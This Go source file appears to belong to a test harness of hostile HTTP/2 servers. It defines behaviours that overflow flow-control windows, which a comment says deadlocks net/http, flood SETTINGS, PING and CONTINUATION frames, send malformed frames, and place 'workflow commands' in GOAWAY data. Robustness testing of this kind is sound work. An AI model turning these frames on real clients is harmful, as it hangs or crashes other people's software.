package hostile

import (
	"encoding/binary"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// overflow widens the stream's window, or with 0 the connection's, beyond 2^31-1.
// For a stream, net/http locks the same mutex twice: no timeout and no cancellation
// ends the request.
func overflow(stream uint32) func(*h2conn, uint32) {
	return func(c *h2conn, id uint32) {
		for range 2 {
			c.write(func(f *http2.Framer) error { return f.WriteWindowUpdate(id*stream, 1<<31-1) })
		}
	}
}

// broken answers with a HEADERS frame whose block is not HPACK.
func broken(c *h2conn, id uint32) {
	c.write(func(f *http2.Framer) error {
		return f.WriteRawFrame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, []byte{0xff, 0xff, 0xff, 0xff,
			0xff, 0xff})
	})
}

// frameBehaviours attack over HTTP/2.
var frameBehaviours = []Behaviour{
	{Name: "h2-window", Does: "widens the window of one page's stream beyond 2^31-1", frames: oddFrames(overflow(1))},
	{Name: "h2-window-all", Does: "widens the window of every stream beyond 2^31-1", frames: allFrames(overflow(1))},
	{Name: "h2-window-connection", Does: "widens the connection's window beyond 2^31-1", frames: oddFrames(overflow(0))},
	{Name: "h2-window-twice", Does: "widens the window after the header of a page",
		frames: oddFrames(func(c *h2conn, id uint32) {
			c.headers(id, false, ":status", "200", "content-type", "text/html")
			overflow(1)(c, id)
		})},
	{Name: "h2-settings-flood", Does: "sends SETTINGS without end", frames: &frames{begin: func(c *h2conn) {
		c.flood(func(f *http2.Framer) error { return f.WriteSettings() })
	}}},
	{Name: "h2-settings-window", Does: "changes the initial window between 0 and 2^31-1 without end",
		frames: &frames{begin: func(c *h2conn) {
			for c.write(func(f *http2.Framer) error {
				return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			}) && c.write(func(f *http2.Framer) error {
				return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
			}) {
			}
		}}},
	{Name: "h2-ping-flood", Does: "sends PING without end", frames: &frames{begin: func(c *h2conn) {
		c.flood(func(f *http2.Framer) error { return f.WritePing(false, [8]byte{'z'}) })
	}}},
	{Name: "h2-priority-flood", Does: "sends PRIORITY without end", frames: &frames{begin: func(c *h2conn) {
		c.flood(func(f *http2.Framer) error { return f.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 1}) })
	}}},
	{Name: "h2-unknown-flood", Does: "sends frames of an unknown type without end",
		frames: &frames{begin: func(c *h2conn) {
			c.flood(func(f *http2.Framer) error { return f.WriteRawFrame(0xee, 0, 0, make([]byte, 16<<10)) })
		}}},
	{Name: "h2-continuation", Does: "sends CONTINUATION frames without end", frames: oddFrames(func(c *h2conn, id uint32) {
		c.mutex.Lock() // no other frame may come between
		defer c.mutex.Unlock()
		field := "\x00\x01z\x7f\x81\x07" + strings.Repeat("z", 256) // z: 256 bytes
		if c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte{0x88}}) != nil {
			return
		}
		for c.framer.WriteContinuation(id, false, []byte(field)) == nil {
		}
	})},
	{Name: "h2-continuation-missing", Does: "begins a header and never ends it", frames: oddFrames(func(c *h2conn,
		id uint32) {
		c.mutex.Lock()
		defer c.mutex.Unlock()
		_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte{0x88}})
		c.wait(time.Minute)
	})},
	{Name: "h2-reset", Does: "resets one page's stream", frames: oddFrames(func(c *h2conn, id uint32) {
		c.write(func(f *http2.Framer) error { return f.WriteRSTStream(id, http2.ErrCodeInternal) })
	})},
	{Name: "h2-reset-refused", Does: "refuses every stream, which asks for another try",
		frames: allFrames(func(c *h2conn, id uint32) {
			c.write(func(f *http2.Framer) error { return f.WriteRSTStream(id, http2.ErrCodeRefusedStream) })
		})},
	{Name: "h2-reset-body", Does: "resets a page's stream within the body", frames: oddFrames(func(c *h2conn, id uint32) {
		c.headers(id, false, ":status", "200", "content-type", "text/html")
		c.write(func(f *http2.Framer) error { return f.WriteData(id, false, []byte("<title>z")) })
		c.write(func(f *http2.Framer) error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
	})},
	{Name: "h2-goaway", Does: "says GOAWAY when page /odd is requested", frames: oddFrames(func(c *h2conn, id uint32) {
		c.write(func(f *http2.Framer) error { return f.WriteGoAway(id-2, http2.ErrCodeNo, nil) })
		c.wait(200 * time.Millisecond)
		_ = c.conn.Close()
	})},
	{Name: "h2-goaway-all", Does: "says GOAWAY to every connection, with workflow commands",
		frames: allFrames(func(c *h2conn, _ uint32) {
			c.write(func(f *http2.Framer) error { return f.WriteGoAway(0, http2.ErrCodeEnhanceYourCalm, []byte(Commands)) })
		})},
	{Name: "h2-broken", Does: "answers /odd with a header that ends the connection", frames: oddFrames(broken)},
	{Name: "h2-broken-data", Does: "answers /odd with data on stream 0", frames: oddFrames(func(c *h2conn, _ uint32) {
		c.write(func(f *http2.Framer) error { return f.WriteRawFrame(http2.FrameData, 0, 0, []byte("z")) })
	})},
	{Name: "h2-broken-push", Does: "answers /odd with a forbidden PUSH_PROMISE", frames: oddFrames(func(c *h2conn,
		id uint32) {
		promised := binary.BigEndian.AppendUint32(nil, 2)
		c.write(func(f *http2.Framer) error {
			return f.WriteRawFrame(http2.FramePushPromise, http2.FlagPushPromiseEndHeaders, id, append(promised, 0x88))
		})
	})},
	{Name: "h2-broken-size", Does: "answers /odd with a frame of 16 MiB", frames: oddFrames(func(c *h2conn, id uint32) {
		c.write(func(f *http2.Framer) error { return f.WriteRawFrame(http2.FrameData, 0, id, make([]byte, 1<<24-1)) })
	})},
	{Name: "h2-hang", Does: "never answers the stream of one page", frames: oddFrames(func(*h2conn, uint32) {})},
	{Name: "h2-hang-all", Does: "never answers a stream", frames: allFrames(func(*h2conn, uint32) {})},
	{Name: "h2-hang-body", Does: "sends a header and no body", frames: oddFrames(func(c *h2conn, id uint32) {
		c.headers(id, false, ":status", "200", "content-type", "text/html")
	})},
	{Name: "h2-data-empty", Does: "sends empty DATA frames without end", frames: oddFrames(func(c *h2conn, id uint32) {
		c.headers(id, false, ":status", "200", "content-type", "text/html")
		c.flood(func(f *http2.Framer) error { return f.WriteData(id, false, nil) })
	})},
	{Name: "h2-zero-window", Does: "gives streams a window of 0, and one stream at a time", frames: &frames{
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0},
			{ID: http2.SettingMaxConcurrentStreams, Val: 1}},
	}},
	{Name: "h2-no-streams", Does: "allows no streams", frames: &frames{
		settings: []http2.Setting{{ID: http2.SettingMaxConcurrentStreams, Val: 0}},
	}},
}
